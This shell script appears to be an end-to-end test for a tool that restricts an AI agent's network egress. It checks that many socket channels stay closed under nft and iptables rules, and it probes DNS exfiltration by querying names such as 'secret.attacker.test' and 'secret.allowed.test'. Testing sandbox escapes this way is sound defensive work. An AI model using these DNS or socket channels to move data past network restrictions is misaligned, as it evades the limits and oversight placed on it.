#!/bin/sh
# Each way out that a socket gives is open without restriction, and with it nothing leaves the machine.
# timeout: 1200
# machines: bookworm
# machines by hand: trixie true true-bookworm
# core: bookworm
# waits: yes
. /opt/e2e/lib.sh
. /opt/e2e/tests/internet/up.sh
ways=/opt/e2e/tests/internet/ways.py
backends="nft iptables"
[ ! -e /dev/vda ] || backends=nft # an emulated machine is slow, and one is enough there
ok as alice au new -y
internet_up
echo "0 2147483647" >/proc/sys/net/ipv4/ping_group_range
sleep 1

# settled prints how many packets left the machine, once it is no more from one look to the next.
settled() {
	now=$(on_wire)
	for looks in 1 2 3 4 5 6 7 8 9 10; do
		last=$now
		sleep 0.2
		now=$(on_wire)
		[ "$now" != "$last" ] || break
	done
	echo "$now"
}

# take WAY… takes ways as the agent, in one run; $left is how many packets left the machine.
take() {
	before=$(settled)
	e2e_run agent python3 $ways "$@"
	left=$(($(settled) - before))
	taken "$@"
}

promise="nothing but the agent sends, so that what is counted is the agent's"
before=$(on_wire)
ok agent true
sleep 1
[ "$(on_wire)" = "$before" ] || fail "$(($(on_wire) - before)) packets left by themselves"

promise="without restriction each is a way out, or there is no such socket"
# In one run, which waits for a word before each way: starting one takes longer than most ways do.
all=$(python3 $ways) open='' closed=''
mkfifo /run/internet/go /run/internet/said
# shellcheck disable=SC2086 # words
agent python3 $ways --when-told $all </run/internet/go >/run/internet/said 2>/run/internet/ways.err &
taker=$!
exec 3>/run/internet/go 4</run/internet/said
before=$(settled)
for way in $all; do
	(trap '' PIPE && echo go >&3) 2>/dev/null || fail "nobody takes $way: $(cat /run/internet/ways.err)"
	read -r name status said <&4 || fail "whoever took $way did not come back: $(cat /run/internet/ways.err)"
	[ "$name" = "$way" ] || fail "asked for $way, $name was taken"
	after=$(settled)
	if [ "$after" -gt "$before" ]; then
		open="$open $way"
	elif [ "$status" = 3 ]; then
		closed="$closed $way"
	else
		fail "$way is no way out: $said"
	fi
	before=$after
done
exec 3>&- 4<&-
wait $taker
echo "open:$open"
echo "no such socket for an agent:$closed"
for way in tcp tcp-6 quic-6 dns dns-tcp fragments device multicast broadcast link-local mapped routing-header; do
	case "$open " in *" $way "*) ;; *) fail "$way is not open" ;; esac
done

for backend in $backends; do
	ok as alice au net restrict --backend $backend --allow allowed.test
	promise="with $backend: nothing leaves by any of them"
	# shellcheck disable=SC2086 # words
	take $all
	says_not INTERNET
	if [ "$left" != 0 ]; then
		together=$left
		for way in $all; do
			promise="with $backend: nothing leaves by $way"
			take "$way"
			[ "$left" = 0 ] || fail "$left packets left the machine"
		done
		fail "$together packets left the machine as all ways were taken, and none as each was taken alone"
	fi
	promise="with $backend: a name that is not allowed is not asked of the resolver, whatever it carries"
	: >/run/internet/dns.log
	# shellcheck disable=SC2016 # the agent's shell expands it
	untouched agent sh -c 'port=$1; shift
		for name; do
			dig +time=2 +tries=1 "$name"
			dig +time=2 +tries=1 +tcp TXT "$name"
			dig +time=2 +tries=1 @127.0.0.1 -p "$port" NULL "$name"
			getent hosts "$name"
			echo "tried $name"
		done' sh "$(sed -n 's/^dns-port = //p' /etc/au/net/agent.toml)" secret.attacker.test secret.allowed.test secret.www.allowed.test
	says "tried secret.www.allowed.test"
	! grep secret /run/internet/dns.log || fail "a name left the machine"
	ok as alice dig +time=2 +tries=1 secret.allowed.test
	grep -q secret /run/internet/dns.log || fail "the resolver sees no names, so that this would show nothing"
done
